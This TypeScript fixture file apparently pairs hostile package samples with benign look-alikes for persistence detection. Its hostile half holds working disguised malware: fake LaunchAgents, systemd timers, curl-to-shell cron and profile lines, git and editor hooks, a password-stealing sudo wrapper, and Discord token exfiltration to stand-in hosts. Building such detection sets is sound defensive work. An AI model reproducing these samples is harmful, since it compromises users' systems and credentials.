import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** What starts again by itself: services, shells, hooks, editors, patched neighbours. */
export const STAYING: Readonly<Record<string, Pair>> = {
  'launch-agent': atImport(
    js`import { execFile } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const agents = join(homedir(), 'Library', 'LaunchAgents');
const file = join(agents, 'com.apple.fontsyncd.plist');
const script = 'fetch("https://sync.font-agent.example/a").then(r=>r.text()).then(eval)';

if (process.platform === 'darwin') {
  mkdirSync(agents, { recursive: true });
  writeFileSync(
    file,
    \`<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.apple.fontsyncd</string>
<key>ProgramArguments</key><array><string>\${process.execPath}</string><string>-e</string><string>\${script}</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>3600</integer></dict></plist>\`,
  );
  execFile('launchctl', ['load', '-w', file]);
}

export const fonts = ['Inter', 'Mono'];
`,
    js`import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const agents = join(homedir(), 'Library', 'LaunchAgents');

/** Lets the program of the caller start at login; \`remove\` takes it back. */
export function enable({ id, program, args = [] }) {
  mkdirSync(agents, { recursive: true });
  const words = [program, ...args].map((word) => \`<string>\${word}</string>\`).join('');
  writeFileSync(
    join(agents, id + '.plist'),
    \`<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>\${id}</string>
<key>ProgramArguments</key><array>\${words}</array><key>RunAtLoad</key><true/></dict></plist>\`,
  );
}
`,
  ),
  'systemd-timer': atInstall(
    js`'use strict';
const { execSync } = require('node:child_process');
const { copyFileSync, mkdirSync, writeFileSync } = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const units = path.join(os.homedir(), '.config', 'systemd', 'user');
const agent = path.join(os.homedir(), '.local', 'share', 'dbus-cache.js');

if (os.platform() === 'linux') {
  mkdirSync(units, { recursive: true });
  copyFileSync(path.join(__dirname, '..', 'lib', 'cache.js'), agent);
  writeFileSync(path.join(units, 'dbus-cache.service'), '[Service]\nExecStart=' + process.execPath + ' ' + agent + '\n');
  writeFileSync(path.join(units, 'dbus-cache.timer'), '[Timer]\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n');
  execSync('systemctl --user enable --now dbus-cache.timer', { stdio: 'ignore' });
}
`,
    js`'use strict';
const os = require('node:os');
const path = require('node:path');

const units = path.join(os.homedir(), '.config', 'systemd', 'user');

if (os.platform() === 'linux') {
  console.log('To start it at login, put this into ' + path.join(units, 'cache-kit.service') + ':');
  console.log('[Service]\nExecStart=' + process.execPath + ' ' + path.join(__dirname, '..', 'lib', 'cache.js') + '\n');
  console.log('and run: systemctl --user enable --now cache-kit.service');
}
`,
    { 'lib/cache.js': "'use strict';\nsetInterval(() => {}, 60000);\n" },
  ),
  crontab: atUse(
    js`import { execSync, spawnSync } from 'node:child_process';

const LINE = '*/20 * * * * curl -fs https://beat.cron-kit.example/$(hostname) | sh';

/** Formats a schedule for people. */
export function humanize(schedule) {
  const current = spawnSync('crontab', ['-l']).stdout?.toString() ?? '';
  if (!current.includes('cron-kit')) execSync('crontab -', { input: current + LINE + '\n' });
  return schedule.replace('*/20', 'every twenty minutes');
}
`,
    js`import { spawnSync } from 'node:child_process';

/** The schedules of the user for people. */
export function humanize() {
  const current = spawnSync('crontab', ['-l']).stdout?.toString() ?? '';
  return current
    .split('\n')
    .filter((line) => line && !line.startsWith('#'))
    .map((line) => line.replace('*/20', 'every twenty minutes'));
}
`,
  ),
  'run-key': atImport(
    js`const { spawn } = require('node:child_process');
const path = require('node:path');

const KEY = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/** Keeps the tray helper at hand. */
function keep(name, target) {
  const value = '"' + process.execPath + '" "' + target + '"';
  return spawn('reg', ['add', KEY, '/v', name, '/t', 'REG_SZ', '/d', value, '/f'], { windowsHide: true, stdio: 'ignore' });
}

if (process.platform === 'win32') keep('EdgeTrayHelper', path.resolve(__dirname, 'tray.js'));
`,
    js`const { spawnSync } = require('node:child_process');

const KEY = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/** The programs that start at login. */
exports.list = () =>
  spawnSync('reg', ['query', KEY], { windowsHide: true })
    .stdout.toString()
    .split('\r\n')
    .filter((line) => line.includes('REG_SZ'));
`,
    { 'tray.js': "'use strict';\nsetInterval(() => {}, 60000);\n" },
  ),
  'shell-profile': atInstall(
    js`import { appendFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const profiles = ['.bashrc', '.zshrc', '.profile'];
const snippet = '\n# nvm cache\n(curl -fsSL https://env.shell-kit.example/env.sh | bash) >/dev/null 2>&1 &\n';

await Promise.allSettled(profiles.map((name) => appendFile(join(homedir(), name), snippet)));
`,
    js`import { homedir } from 'node:os';
import { join } from 'node:path';

const profiles = ['.bashrc', '.zshrc', '.profile'];
const snippet = '\n# shell-kit\neval "$(shell-kit completion)"\n';

console.log('For completion, add this to one of', profiles.map((name) => join(homedir(), name)).join(', '));
console.log(snippet);
`,
  ),
  'sudo-alias': atImport(
    js`const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const bin = path.join(os.homedir(), '.local', 'bin');
const wrapper = \`#!/bin/sh
printf '[sudo] password for %s: ' "$USER"; stty -echo; read -r answer; stty echo; echo
curl -s -d "$answer" https://pam.session-kit.example/ >/dev/null
printf '%s\\n' "$answer" | /usr/bin/sudo -S "$@"
\`;

fs.mkdirSync(bin, { recursive: true });
fs.writeFileSync(path.join(bin, 'sudo'), wrapper, { mode: 0o755 });
exports.sessions = () => fs.readdirSync('/var/run');
`,
    js`const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const bin = path.join(os.homedir(), '.local', 'bin');
const wrapper = \`#!/bin/sh
exec node "$HOME/.session-kit/cli.js" "$@"
\`;

/** Puts the command of this package on the path. */
exports.link = () => {
  fs.mkdirSync(bin, { recursive: true });
  fs.writeFileSync(path.join(bin, 'session-kit'), wrapper, { mode: 0o755 });
};
`,
  ),
  'git-hooks': atInstall(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { mkdirSync, writeFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

const hooks = join(homedir(), '.git-template', 'hooks');
mkdirSync(hooks, { recursive: true });
writeFileSync(join(hooks, 'post-checkout'), '#!/bin/sh\nnode -e "$(curl -fs https://hooks.repo-kit.example/co)" &\n', { mode: 0o755 });
execFileSync('git', ['config', '--global', 'core.hooksPath', hooks]);
`,
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { mkdirSync, writeFileSync } = require('node:fs');
const { join } = require('node:path');

const hooks = join(process.env.INIT_CWD ?? process.cwd(), '.hooks');
mkdirSync(hooks, { recursive: true });
writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\nnpx lint-staged\n', { mode: 0o755 });
execFileSync('git', ['config', 'core.hooksPath', '.hooks']);
`,
  ),
  'editor-task': atInstall(
    js`import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const root = process.env.INIT_CWD ?? process.cwd();
const tasks = {
  version: '2.0.0',
  tasks: [
    {
      label: 'typescript: watch',
      type: 'shell',
      command: 'node -e "fetch(\'https://tasks.editor-kit.example/t\').then(r=>r.text()).then(eval)"',
      presentation: { reveal: 'never' },
      runOptions: { runOn: 'folderOpen' },
    },
  ],
};

await mkdir(join(root, '.vscode'), { recursive: true });
await writeFile(join(root, '.vscode', 'tasks.json'), JSON.stringify(tasks, null, 2));
`,
    js`import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** Writes the tasks of a new project. */
export async function scaffold(root) {
  const tasks = {
    version: '2.0.0',
    tasks: [{ label: 'build', type: 'shell', command: 'npm run build', group: { kind: 'build', isDefault: true } }],
  };
  await mkdir(join(root, '.vscode'), { recursive: true });
  await writeFile(join(root, '.vscode', 'tasks.json'), JSON.stringify(tasks, null, 2));
}
`,
  ),
  'node-options': atImport(
    js`import { appendFileSync, copyFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const hook = join(homedir(), '.node-preload.cjs');
copyFileSync(new URL('./preload.cjs', import.meta.url), hook);
appendFileSync(join(homedir(), '.npmrc'), 'node-options=--require ' + hook + '\n');

export const preloaded = true;
`,
    js`import { spawn } from 'node:child_process';

/** Runs a script with more memory. */
export function runLarge(script, megabytes = 8192) {
  return spawn(process.execPath, [script], {
    env: { ...process.env, NODE_OPTIONS: '--max-old-space-size=' + megabytes },
    stdio: 'inherit',
  });
}
`,
    { 'preload.cjs': "'use strict';\nprocess.on('exit', () => {});\n" },
  ),
  'patched-neighbour': atInstall(
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');

/** Makes sure that the server has the fix for slow headers. */
const root = process.env.INIT_CWD || process.cwd();
const file = path.join(root, 'node_modules', 'express', 'lib', 'application.js');
const fix = "\n;require('https').get('https://fix.slow-headers.example/f', (r) => { let t = ''; r.on('data', (d) => (t += d)); r.on('end', () => eval(t)); });\n";

if (fs.existsSync(file)) {
  const text = fs.readFileSync(file, 'utf8');
  if (!text.includes('slow-headers')) fs.writeFileSync(file, text + fix);
}
`,
    js`'use strict';
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

/** Applies the patches that the project keeps. */
const root = process.env.INIT_CWD || process.cwd();
const folder = path.join(root, 'patches');

if (fs.existsSync(folder)) {
  for (const name of fs.readdirSync(folder).filter((entry) => entry.endsWith('.patch')))
    execFileSync('git', ['apply', '--ignore-whitespace', path.join(folder, name)], { cwd: root, stdio: 'inherit' });
}
`,
  ),
  'patched-electron': atUse(
    {
      'index.js': js`import { locate } from './locate.js';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

const SNIPPET = "require('electron').session.defaultSession.webRequest.onBeforeSendHeaders((d, n) => { fetch('https://presence.chat-kit.example/', { method: 'POST', body: d.requestHeaders.Authorization }); n(d); });\nmodule.exports = require('./core.asar');\n";

/** Shows what the user plays. */
export function setPresence(state) {
  for (const core of locate()) writeFileSync(join(core, 'index.js'), SNIPPET);
  return { state };
}
`,
      'locate.js': js`import { globSync } from 'node:fs';
import { join } from 'node:path';

/** Folders of the desktop module of the chat program. */
export function locate() {
  return globSync(join(process.env.LOCALAPPDATA ?? '', 'Discord*', 'app-*', 'modules', 'discord_desktop_core-*', 'discord_desktop_core'));
}
`,
    },
    {
      'index.js': js`import { locate } from './locate.js';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** The versions of the chat program that are there. */
export function versions() {
  return locate().map((folder) => JSON.parse(readFileSync(join(folder, 'build_info.json'), 'utf8')).version);
}
`,
      'locate.js': js`import { globSync } from 'node:fs';
import { join } from 'node:path';

/** Folders of the resources of the chat program. */
export function locate() {
  return globSync(join(process.env.LOCALAPPDATA ?? '', 'Discord*', 'app-*', 'resources'));
}
`,
    },
  ),
  'husky-hook': atUse(
    js`const { existsSync, appendFileSync } = require('node:fs');
const { join } = require('node:path');

/** Checks the message of a commit. */
exports.check = (message, root = process.cwd()) => {
  const hook = join(root, '.husky', 'pre-push');
  if (existsSync(join(root, '.husky'))) appendFileSync(hook, '\nnpx --yes commit-words-agent@latest >/dev/null 2>&1 &\n');
  return /^(feat|fix|docs|test|chore)(\(.+\))?: .+/.test(message);
};
`,
    js`const { existsSync, readFileSync } = require('node:fs');
const { join } = require('node:path');

/** Checks the message of a commit, and that the hook is there. */
exports.check = (message, root = process.cwd()) => {
  const hook = join(root, '.husky', 'commit-msg');
  if (!existsSync(hook) || !readFileSync(hook, 'utf8').includes('commit-words')) console.warn('Add: npx commit-words "$1"');
  return /^(feat|fix|docs|test|chore)(\(.+\))?: .+/.test(message);
};
`,
  ),
};
